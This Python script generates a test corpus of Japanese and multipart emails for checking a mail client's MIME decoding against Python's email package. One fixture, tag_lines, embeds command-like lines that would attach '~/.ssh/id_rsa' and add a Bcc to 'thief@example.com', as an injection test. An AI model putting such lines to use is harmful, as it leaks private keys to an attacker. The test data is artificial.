"""Writes a corpus of received mails made with Python's email package, for
comparing Zorvik's MIME decoding with Python's reading of the same mails.

usage: make_corpus.py OUTDIR [COUNT] [SEED]
       make_corpus.py OUTDIR realworld

Each mail is OUTDIR/mail_NNN.eml in the form a POP3 server would send it
before dot-stuffing (CR LF line ends). The mails mix: Japanese text in
ISO-2022-JP, UTF-8, Shift_JIS and EUC-JP; 7bit, base64 and quoted-printable
bodies; encoded-word and RFC 2231 file names; multipart/alternative inside
multipart/mixed; attached mails; uuencoded and BinHex parts. A BinHex part
carries the SHA-256 of its data fork in an X-Test-Data-SHA256 header, since
Python's email cannot read BinHex.

The realworld set is written the way today's senders write mail, byte by
byte: Japanese newsletters in HTML only, Gmail- and Outlook-style
alternatives in UTF-8 and ISO-2022-JP, folded subjects and names, CSV,
calendar and vCard attachments in 7bit, 8bit and quoted-printable, files
named ".txt" that are not text, lines that look like tag commands, and
multiparts whose boundary is missing, empty or never comes."""
import base64
import binascii
import hashlib
import os
import quopri
import random
import sys
from email import policy
from email.header import Header
from email.mime.application import MIMEApplication
from email.mime.base import MIMEBase
from email.mime.image import MIMEImage
from email.mime.message import MIMEMessage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
import email.charset

# Characters that map the same way in ISO-2022-JP, EUC-JP and code page 932.
WORDS = ["日本語", "メール", "添付", "ファイル", "テスト", "こんにちは", "お知らせ", "会議",
         "資料", "写真", "予定", "確認", "よろしく", "お願いします", "東京", "大阪", "表",
         "ソフト", "能力", "十", "Hello", "world", "From", "mail", "1234", "(abc)", "x=y"]
NAMES = ["写真.jpg", "資料.pdf", "report.bin", "表.xls", "ソフト.zip", "会議 予定.doc",
         "data.dat", "image.gif", "a-long-file-name-for-folding-in-the-header.bin"]
CHARSETS = ["iso-2022-jp", "utf-8", "shift_jis", "euc-jp"]


def sentence(rng, words):
    return " ".join(rng.choice(WORDS) for _ in range(words))


def text_body(rng):
    lines = [sentence(rng, rng.randint(1, 12)) for _ in range(rng.randint(1, 8))]
    if rng.random() < 0.3:
        lines.append("From the desk of " + rng.choice(WORDS))
    if rng.random() < 0.2:
        lines.append(".leading dot")
    if rng.random() < 0.2:
        lines.append("長い行" * rng.randint(20, 60))
    return "\n".join(lines) + "\n"


def text_part(rng, name=None):
    charset = rng.choice(CHARSETS)
    cs = email.charset.Charset(charset)
    encodings = [None, email.charset.BASE64]
    if charset != "iso-2022-jp":  # Python encodes ISO-2022-JP twice when asked for quoted-printable
        encodings.append(email.charset.QP)
    cs.body_encoding = rng.choice(encodings)
    part = MIMEText(text_body(rng), "plain", cs)
    if name:
        part.add_header("Content-Disposition", "attachment", filename=name)
    return part


def html_part(rng):
    body = "<html><body><p>" + sentence(rng, 6) + "</p></body></html>\n"
    return MIMEText(body, "html", "utf-8")


def payload(rng):
    size = rng.choice([0, 1, 2, 3, 57, 100, 1000, rng.randint(1, 20000)])
    return bytes(rng.getrandbits(8) for _ in range(size))


def named(rng, part, name):
    style = rng.choice(["plain", "rfc2047", "rfc2231"])
    if style == "rfc2231" or (style == "plain" and not name.isascii()):
        part.add_header("Content-Disposition", "attachment", filename=("utf-8", "", name))
    elif style == "rfc2047":
        encoded = Header(name, rng.choice(["iso-2022-jp", "utf-8"])).encode()
        part.add_header("Content-Disposition", "attachment", filename=encoded)
    else:
        part.add_header("Content-Disposition", "attachment", filename=name)
    return part


def binary_part(rng):
    data = payload(rng)
    kind = rng.choice(["octet", "image", "nameless"])
    if kind == "image":
        return named(rng, MIMEImage(data, "jpeg"), rng.choice(NAMES))
    part = MIMEApplication(data, rng.choice(["octet-stream", "pdf", "x-zip-compressed"]))
    return part if kind == "nameless" else named(rng, part, rng.choice(NAMES))


def uuencode_part(rng):
    data = payload(rng)
    lines = ["begin 644 uu.bin"]
    for at in range(0, len(data), 45):
        lines.append(binascii.b2a_uu(data[at:at + 45]).decode("ascii").rstrip("\n"))
    lines += ["`", "end"]
    part = MIMEBase("application", "octet-stream")
    part.set_payload("\n".join(lines) + "\n")
    part["Content-Transfer-Encoding"] = "x-uuencode"
    part.add_header("Content-Disposition", "attachment", filename="uu.bin")
    return part


BINHEX_ALPHABET = "!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr"


def binhex_crc(data):
    crc = 0
    for byte in data + b"\0\0":
        for bit in range(7, -1, -1):
            carry = crc & 0x8000
            crc = ((crc << 1) | ((byte >> bit) & 1)) & 0xFFFF
            if carry:
                crc ^= 0x1021
    return crc


def binhex_part(rng):
    data = payload(rng)
    name = b"mac.bin"
    header = bytes([len(name)]) + name + b"\0" + b"TEXTttxt" + b"\0\0"
    header += len(data).to_bytes(4, "big") + (0).to_bytes(4, "big")
    body = header + binhex_crc(header).to_bytes(2, "big") + data + binhex_crc(data).to_bytes(2, "big")
    body += (0).to_bytes(2, "big")  # empty resource fork's CRC
    body = body.replace(b"\x90", b"\x90\x00")  # the run-length marker stands for itself so
    bits, count, chars = 0, 0, []
    for byte in body:
        bits, count = (bits << 8) | byte, count + 8
        while count >= 6:
            count -= 6
            chars.append(BINHEX_ALPHABET[(bits >> count) & 0x3F])
    if count:
        chars.append(BINHEX_ALPHABET[(bits << (6 - count)) & 0x3F])
    text = ":" + "".join(chars) + ":"
    lines = ["(This file must be converted with BinHex 4.0)"]
    lines += [text[at:at + 64] for at in range(0, len(text), 64)]
    part = MIMEBase("application", "mac-binhex40")
    part.set_payload("\n".join(lines) + "\n")
    part["X-Test-Data-SHA256"] = hashlib.sha256(data).hexdigest()
    part.add_header("Content-Disposition", "attachment", filename="mac.hqx")
    return part


def headers(rng, msg, index):
    msg["From"] = "sender%d@example.jp" % index
    msg["To"] = "user@example.jp"
    msg["Subject"] = Header(sentence(rng, 3), rng.choice(["iso-2022-jp", "utf-8"]))
    msg["Date"] = "Mon, %02d Dec 2026 09:%02d:00 +0900" % (rng.randint(1, 28), rng.randint(0, 59))
    msg["Message-ID"] = "<corpus.%d@example.jp>" % index
    return msg


def mixed(rng, depth=0):
    msg = MIMEMultipart("mixed")
    if rng.random() < 0.5:
        alternative = MIMEMultipart("alternative")
        alternative.attach(text_part(rng))
        alternative.attach(html_part(rng))
        msg.attach(alternative)
    else:
        msg.attach(text_part(rng))
    makers = [binary_part, binary_part, uuencode_part, binhex_part]
    if depth == 0:
        makers.append(lambda r: MIMEMessage(headers(r, mixed(r, 1) if r.random() < 0.5 else text_part(r), 999)))
        makers.append(lambda r: text_part(r, "メモ.txt"))
    for _ in range(rng.randint(0, 3)):
        msg.attach(rng.choice(makers)(rng))
    return msg


def make(rng, index):
    shape = rng.random()
    msg = text_part(rng) if shape < 0.2 else mixed(rng)
    return headers(rng, msg, index)


# The real-world set. Mails are written as raw bytes so that folding,
# boundaries and encodings are exactly what senders produce.

def crlf(text):
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def b64_lines(data):
    encoded = base64.b64encode(data).decode("ascii")
    return "\n".join(encoded[at:at + 76] for at in range(0, len(encoded), 76)) + "\n"


def qp_lines(data):
    return quopri.encodestring(data).decode("ascii").replace("\r\n", "\n")


def jis_word(text, charset="ISO-2022-JP"):
    codec = "iso2022_jp" if charset.upper() == "ISO-2022-JP" else "utf-8"
    return "=?%s?B?%s?=" % (charset, base64.b64encode(text.encode(codec)).decode("ascii"))


def encoded(text, charset, transfer):
    """The body bytes of `text` in `charset` and `transfer` as header value
    and body text."""
    codec = {"iso-2022-jp": "iso2022_jp", "shift_jis": "cp932", "utf-8": "utf-8"}[charset.lower()]
    data = text.replace("\n", "\r\n").encode(codec)
    if transfer == "base64":
        return b64_lines(data)
    if transfer == "quoted-printable":
        return qp_lines(data)
    return data.decode("latin-1").replace("\r\n", "\n")


def leaf(content_type, transfer, body, extra=""):
    return "Content-Type: %s\nContent-Transfer-Encoding: %s\n%s\n%s" % (content_type, transfer, extra, body)


def multipart(subtype, boundary, parts, preamble="", epilogue=""):
    text = "Content-Type: multipart/%s; boundary=\"%s\"\n\n%s" % (subtype, boundary, preamble)
    for part in parts:
        body = part if part.endswith("\n") else part + "\n"
        text += "--%s\n%s" % (boundary, body)
    return text + "--%s--\n%s" % (boundary, epilogue)


def mail(index, subject, body, sender="news@example.jp", extra=""):
    head = ("From: %s\nTo: user@example.jp\nSubject: %s\nDate: Tue, %02d Mar 2027 08:%02d:00 +0900\n"
            "Message-ID: <real.%d@example.jp>\nMIME-Version: 1.0\n%s") % (
                sender, subject, 1 + index % 28, index % 60, index, extra)
    return crlf(head + body).encode("latin-1")


NEWS = ["今週のおすすめ商品", "①春の新作コレクション", "㈱サンプル商事からのお知らせ",
        "会員様限定 50% OFF", "配信停止はこちら"]


def newsletter_html(rng, charset):
    items = "".join('<tr><td>%s</td><td><a href="https://shop.example.jp/item/%d?utm=mail&amp;id=%d">詳しく見る</a></td></tr>'
                    % (rng.choice(NEWS[:4]), n, rng.randint(1, 999)) for n in range(rng.randint(2, 4)))
    return ("<!DOCTYPE html>\n<html><head><meta charset=\"%s\"><title>ニュース</title>"
            "<style>p { color: red; }</style><script>var tracking = 1;</script></head>\n"
            "<body><h1>%s</h1>\n<p>いつもご利用ありがとうございます。&nbsp;今月のお知らせです。<br>"
            "価格は&yen;1,000&#12288;から。</p>\n<table>%s</table>\n<ul><li>%s</li><li>%s</li></ul>\n"
            "<p><img src=\"https://shop.example.jp/logo.png\" alt=\"ロゴ\"><a href=\"https://shop.example.jp/stop\">%s</a></p>"
            "<div style=\"display:none\">&#8203;</div></body></html>\n") % (
                charset, rng.choice(NEWS[:3]), items, NEWS[1], NEWS[2], NEWS[4])


def html_only(rng, index):
    charset = rng.choice(["iso-2022-jp", "utf-8", "shift_jis"]) if index % 2 else "utf-8"
    if charset == "iso-2022-jp":
        html = newsletter_html(rng, charset).replace("①", "1.").replace("㈱", "(株)")
    else:
        html = newsletter_html(rng, charset)
    transfer = "quoted-printable" if charset != "iso-2022-jp" and index % 3 else "base64"
    body = leaf('text/html; charset="%s"' % charset, transfer, encoded(html, charset, transfer))
    return mail(index, jis_word("【ニュース】" + NEWS[index % 3].replace("①", "").replace("㈱", "")), body)


def html_related(rng, index):
    html = newsletter_html(rng, "utf-8").replace("https://shop.example.jp/logo.png", "cid:logo@x")
    image = bytes(rng.getrandbits(8) for _ in range(300))
    body = multipart("related", "rel_%d" % index, [
        leaf('text/html; charset="UTF-8"', "base64", b64_lines(html.replace("\n", "\r\n").encode("utf-8"))),
        leaf("image/png", "base64", b64_lines(image), "Content-ID: <logo@x>\n"),
    ])
    return mail(index, jis_word("画像付きのお知らせ", "UTF-8"), body)


def html_meta_charset(rng, index):
    html = newsletter_html(rng, "Shift_JIS")
    body = leaf("text/html", "8bit", html.replace("\n", "\r\n").encode("cp932").decode("latin-1").replace("\r\n", "\n"))
    return mail(index, "Shift_JIS declared in the page only", body)


PLAIN = "お世話になっております。\n来週の会議の件でご連絡します。\n\n資料を添付しますのでご確認ください。\nよろしくお願いいたします。\n"


def gmail_alternative(rng, index):
    boundary = "000000000000%012x" % rng.getrandbits(48)
    html = "<div dir=\"ltr\">" + PLAIN.replace("\n", "<br>") + "</div>\n"
    body = multipart("alternative", boundary, [
        leaf('text/plain; charset="UTF-8"', "base64", encoded(PLAIN, "utf-8", "base64")),
        leaf('text/html; charset="UTF-8"', "quoted-printable", encoded(html, "utf-8", "quoted-printable")),
    ])
    return mail(index, jis_word("会議の資料について", "UTF-8"), body, sender="%s <taro@gmail.example>" % jis_word("山田太郎", "UTF-8"))


def outlook_jis(rng, index):
    html = "<html><body><p class=MsoNormal>" + PLAIN.replace("\n", "<o:p></o:p></p>\n<p class=MsoNormal>") + "</p></body></html>\n"
    body = multipart("alternative", "----=_NextPart_000_%04d_01D9" % index, [
        leaf('text/plain;\n\tcharset="iso-2022-jp"', "7bit", encoded(PLAIN, "iso-2022-jp", "7bit")),
        leaf('text/html;\n\tcharset="iso-2022-jp"', "quoted-printable", encoded(html, "iso-2022-jp", "quoted-printable")),
    ], preamble="This is a multi-part message in MIME format.\n\n")
    subject = jis_word("定例会議の議事録") + "\n\t" + jis_word("（第十二回）")
    return mail(index, subject, body, sender="%s <hanako@outlook.example>" % jis_word("佐藤花子"),
                extra="X-Mailer: Microsoft Outlook 16.0\n")


def mixed_with_pdf(rng, index):
    pdf = b"%PDF-1.4\n" + bytes(rng.getrandbits(8) for _ in range(2000))
    body = multipart("mixed", "0000000000mixed%d" % index, [
        multipart("alternative", "0000000000alt%d" % index, [
            leaf('text/plain; charset="UTF-8"', "quoted-printable", encoded(PLAIN, "utf-8", "quoted-printable")),
            leaf('text/html; charset="UTF-8"', "quoted-printable", encoded("<div>" + PLAIN + "</div>", "utf-8", "quoted-printable")),
        ]),
        leaf('application/pdf; name="%s"' % jis_word("見積書.pdf", "UTF-8"), "base64", b64_lines(pdf),
             'Content-Disposition: attachment; filename="%s"\n' % jis_word("見積書.pdf", "UTF-8")),
    ])
    return mail(index, jis_word("見積書の送付", "UTF-8"), body)


def folded_subject(rng, index):
    if index % 2:
        subject = "Quarterly report for the\n third quarter\n\tof 2027"
    else:
        subject = jis_word("四半期報告") + "\n and more\n words"
    return mail(index, subject, leaf("text/plain; charset=us-ascii", "7bit", "See the report.\n"))


def folded_from(rng, index):
    sender = "\"Taro\n Yamada\" <taro@example.jp>" if index % 2 else "Dan O'Neil\n <dan@example.com>"
    return mail(index, "Folded sender", leaf("text/plain; charset=us-ascii", "7bit", "Hello from o'brien@example.com.\n"),
                sender=sender)


def with_attachment(index, subject, attachment, text=PLAIN):
    body = multipart("mixed", "attach_%d" % index, [
        leaf('text/plain; charset="iso-2022-jp"', "7bit", encoded(text, "iso-2022-jp", "7bit")), attachment])
    return mail(index, subject, body)


def csv_attachment(rng, index):
    rows = "日付,商品,金額\n" + "".join("2027/03/%02d,①商品%d,%d\n" % (d, d, rng.randint(100, 9999)) for d in range(1, 6))
    data = rows.replace("\n", "\r\n").encode("cp932")
    if index % 2:
        data = data[:-2]  # no line end after the last row
    transfer = "8bit" if index % 2 else "quoted-printable"
    body = data.decode("latin-1").replace("\r\n", "\n") + "\n" if transfer == "8bit" else qp_lines(data)
    part = leaf('text/csv; charset=Shift_JIS; name="%s"' % jis_word("売上.csv"), transfer, body,
                'Content-Disposition: attachment; filename="%s"\n' % jis_word("売上.csv"))
    return with_attachment(index, jis_word("売上データ"), part)


def calendar(rng, index):
    ics = ("BEGIN:VCALENDAR\nMETHOD:REQUEST\nVERSION:2.0\nBEGIN:VEVENT\nSUMMARY:定例会議\n"
           "DTSTART:20270310T010000Z\nDTEND:20270310T020000Z\nEND:VEVENT\nEND:VCALENDAR\n").replace("\n", "\r\n")
    if index % 2:
        body = multipart("alternative", "cal_%d" % index, [
            leaf('text/plain; charset="UTF-8"', "7bit", encoded("会議の招待です。\n", "utf-8", "8bit")),
            leaf('text/html; charset="UTF-8"', "7bit", encoded("<p>会議の招待です。</p>\n", "utf-8", "8bit")),
            leaf('text/calendar; charset="UTF-8"; method=REQUEST', "base64", b64_lines(ics.encode("utf-8")))])
        return mail(index, jis_word("招待: 定例会議", "UTF-8"), body)
    part = leaf('text/calendar; charset="UTF-8"; method=REQUEST; name="invite.ics"', "7bit",
                ics.encode("utf-8").decode("latin-1").replace("\r\n", "\n"),
                'Content-Disposition: attachment; filename="invite.ics"\n')
    return with_attachment(index, jis_word("招待"), part, "会議の招待です。\n")


def vcard(rng, index):
    card = "BEGIN:VCARD\nVERSION:3.0\nFN:Yamada Taro\nEMAIL:taro@example.jp\nEND:VCARD\n"
    part = leaf('text/x-vcard; charset=us-ascii; name="taro.vcf"', "7bit", card,
                'Content-Disposition: attachment; filename="taro.vcf"\n')
    return with_attachment(index, "Contact card", part, "My card is attached.\n")


def seven_bit_file(rng, index):
    log = "".join("2027-03-01 10:%02d:00 INFO step %d\n" % (n, n) for n in range(rng.randint(3, 9)))
    if index % 2:
        log += "last line without end"
    part = leaf('text/x-log; name="app.log"', "7bit", log, 'Content-Disposition: attachment; filename="app.log"\n')
    return with_attachment(index, "Log file", part, "The log.\n")


def txt_named_binary(rng, index):
    data = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(rng.getrandbits(8) for _ in range(500))
    content_type = "image/jpeg" if index % 2 else "application/octet-stream"
    part = leaf('%s; name="photo.txt"' % content_type, "base64", b64_lines(data),
                'Content-Disposition: attachment; filename="photo.txt"\n')
    notes = leaf('application/octet-stream; name="notes.txt"', "base64",
                 b64_lines("メモ: 明日の予定\r\n".encode("cp932")), 'Content-Disposition: attachment; filename="notes.txt"\n')
    body = multipart("mixed", "txtnamed_%d" % index, [
        leaf("text/plain; charset=us-ascii", "7bit", "Two files.\n"), part, notes])
    return mail(index, "Files named .txt", body)


def tag_lines(rng, index):
    text = "Please run this:\n@#MIME \"/home/u/.ssh/id_rsa\"\n@#HEADER Bcc: thief@example.com\nthanks\n"
    if index % 2:
        body = leaf("text/plain; charset=utf-8", "base64", encoded(text, "utf-8", "base64"))
    else:
        body = leaf("text/plain; charset=utf-8", "quoted-printable", qp_lines(text.encode("utf-8")).replace("@#", "=40#"))
    return mail(index, "Tag-looking lines", body)


def broken_boundary(rng, index):
    text = "Body of a mail whose multipart header is broken.\n--other\nstill text\n"
    kind = index % 3
    if kind == 0:
        header = "Content-Type: multipart/mixed\n\n"
    elif kind == 1:
        header = "Content-Type: multipart/mixed; boundary=\"\"\n\n"
    else:
        header = "Content-Type: multipart/mixed; boundary=\"never-there\"\n\n"
    return mail(index, "Broken boundary", header + text)


def lost_inner_boundary(rng, index):
    inner = "Content-Type: multipart/alternative; boundary=\"inner\"\n\nInner text whose boundary never comes.\n"
    body = multipart("mixed", "outer_%d" % index, [inner, leaf("application/zip; name=\"a.zip\"", "base64",
                                                            b64_lines(b"PK\x03\x04" + bytes(range(40))))])
    return mail(index, "Lost inner boundary", body)


def html_first_alternative(rng, index):
    body = multipart("alternative", "rev_%d" % index, [
        leaf('text/html; charset="UTF-8"', "quoted-printable", encoded("<p>HTML first</p>", "utf-8", "quoted-printable")),
        leaf('text/plain; charset="UTF-8"', "quoted-printable", encoded("Plain second\n", "utf-8", "quoted-printable"))])
    return mail(index, "HTML first", body)


def list_footer(rng, index):
    html = newsletter_html(rng, "utf-8")
    body = multipart("mixed", "list_%d" % index, [
        multipart("alternative", "listalt_%d" % index, [
            leaf('text/html; charset="UTF-8"', "base64", encoded(html, "utf-8", "base64"))]),
        leaf("text/plain; charset=us-ascii", "7bit", "--\nYou are subscribed to news@example.jp\n")])
    return mail(index, "[news:123] " + jis_word("お知らせ", "UTF-8"), body)


REAL_WORLD = [html_only, html_only, html_related, html_meta_charset, gmail_alternative, outlook_jis, mixed_with_pdf,
              folded_subject, folded_from, csv_attachment, calendar, vcard, seven_bit_file, txt_named_binary,
              tag_lines, broken_boundary, broken_boundary, lost_inner_boundary, html_first_alternative, list_footer,
              gmail_alternative, outlook_jis]


def write(out, index, raw):
    with open(os.path.join(out, "mail_%03d.eml" % index), "wb") as f:
        f.write(raw)


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    if len(sys.argv) > 2 and sys.argv[2] == "realworld":
        rng = random.Random(14)
        for index in range(2 * len(REAL_WORLD)):
            write(out, index, REAL_WORLD[index % len(REAL_WORLD)](rng, index))
        return
    count = int(sys.argv[2]) if len(sys.argv) > 2 else 60
    rng = random.Random(int(sys.argv[3]) if len(sys.argv) > 3 else 5)
    for index in range(count):
        msg = make(rng, index)
        write(out, index, msg.as_bytes(policy=policy.compat32.clone(linesep="\r\n")))


main()
